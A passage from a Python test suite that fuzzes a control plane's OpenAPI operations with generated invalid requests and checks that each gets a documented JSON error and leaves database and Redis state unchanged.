        problems.append(f"expected {probe.expect}: {probe.describe()} {said}")
    elif status not in allowed:
        problems.append(f"undocumented status (documented: {sorted(documented)}): {probe.describe()} {said}")
    if probe.invalid and status < 400:
        problems.append(f"invalid request accepted: {probe.describe()} {said}")
    if status >= 400 and not probe.not_http:
        if "application/json" not in headers.get("content-type", ""):
            problems.append(f"error answer is not JSON ({headers.get('content-type')}): {probe.describe()} {said}")
        else:
            error = json.loads(body)
            problems += [f"error body {p}: {probe.describe()} {said}" for p in error_schema(error)]
            if isinstance(error, dict) and error.get("status_code") != status:
                problems.append(f"error status_code is not the HTTP status: {probe.describe()} {said}")
    return problems


class SchemaCheck:
    """Checks a value against a node of the served OpenAPI document: the subset of JSON Schema
    it uses ($ref, type, properties, required, items, oneOf/anyOf, additionalProperties)."""

    def __init__(self, spec: dict, name: str) -> None:
        self.spec = spec
        self.root = {"$ref": f"#/components/schemas/{name}"}

    def __call__(self, value: Any) -> list[str]:
        return self.check(self.root, value, "$")

    def check(self, node: dict, value: Any, at: str) -> list[str]:
        while "$ref" in node:
            node = self.spec["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
        if "oneOf" in node or "anyOf" in node:
            branches = node.get("oneOf", node.get("anyOf"))
            if not any(not self.check(b, value, at) for b in branches):
                return [f"{at}={value!r:.80} matches none of {len(branches)} documented forms"]
            return []
        kind = node.get("type")
        found = _json_type(value)
        if kind is not None and found != kind and not (kind == "number" and found == "integer"):
            return [f"{at} is {found}, documented {kind}"]
        problems = []
        if isinstance(value, dict):
            problems += [f"{at} lacks required {key!r}" for key in node.get("required", []) if key not in value]
            for key, item in value.items():
                if key in node.get("properties", {}):
                    problems += self.check(node["properties"][key], item, f"{at}.{key}")
                elif node.get("additionalProperties") is False:
                    problems.append(f"{at} has undocumented key {key!r}")
        if isinstance(value, list) and "items" in node:
            for n, item in enumerate(value):
                problems += self.check(node["items"], item, f"{at}[{n}]")
        return problems


COUNTED = ("instances", "pools", "hosts", "join_tokens", "agent_commands", "processed_commands", "api_keys")


async def test_openapi_operations_answer_hostile_requests_with_documented_errors(control_plane, db, redis):
    tag = f"[seed={SEED}; replay with CP_HOSTILE_SEED={SEED}]"
    async with control_plane.client() as client:
        spec = (await client.get("/schema/openapi.json")).json()
        pool = await client.post("/v1/pools", json={"name": "fuzz-pool", "model": "org/model-1b", "min_size": 0,
                                                    "max_size": 0, "policy": {"scale_to_zero": True},
                                                    "offers": [{"provider": "local", "instance_type": "local-gpu"}]})
        assert pool.status_code == 201, pool.text
    # An instance that exists (terminated: no worker acts on it), so that handlers past the
    # lookup (cursors, bodies) are reached too.
    instance_id = uuid.uuid4()
    await db.execute("INSERT INTO instances (id, provider, instance_type, model, status, desired_state)"
                     " VALUES ($1, 'local', 'local-gpu', 'org/model-1b', 'terminated', 'terminated')", instance_id)

    async def snapshot() -> dict[str, Any]:
        counts = {t: await db.fetchval(f"SELECT count(*) FROM {t}") for t in COUNTED}
        counts["pool"] = tuple(await db.fetchrow("SELECT * FROM pools WHERE name = 'fuzz-pool'"))
        counts["instance"] = tuple(await db.fetchrow("SELECT * FROM instances WHERE id = $1", instance_id))
        counts["stream"] = await redis.xlen(control_plane.settings.command_stream)
        return counts

    before = await snapshot()
    fuzzer = OpenApiFuzzer(spec, SEED, {"instance_id": str(instance_id), "name": "fuzz-pool",
                                        "admin_key": control_plane.admin_key})
    probes = fuzzer.probes()
    documented = {f"{m} {p}": {int(c) for c in op["responses"]} for p, m, op in fuzzer.operations()}
    error_schema = SchemaCheck(spec, "Error")
    problems: list[str] = []
    started = time.monotonic()
    async with control_plane.client(key=None, timeout=30) as client:
        for chunk in range(0, len(probes), 8):
            batch = probes[chunk:chunk + 8]
            answers = await asyncio.gather(*(send(client, p) for p in batch), return_exceptions=True)
            for probe, answer in zip(batch, answers, strict=True):
                if isinstance(answer, BaseException):
                    problems.append(f"no answer: {probe.describe()}: {answer!r}")
                else:
                    problems += answer_problems(probe, documented[probe.operation], *answer, error_schema)
    elapsed = time.monotonic() - started
    print(f"\n{tag} {len(probes)} hostile requests over {len(documented)} operations in {elapsed:.1f} s")
    after = await snapshot()
    for key in before:
        if before[key] != after[key]:
            problems.append(f"{key} changed: {before[key]!r:.300} -> {after[key]!r:.300}")
    assert not problems, (f"{tag} {len(problems)} problem(s) in {len(probes)} requests:\n  "
                          + "\n  ".join(problems[:40]))
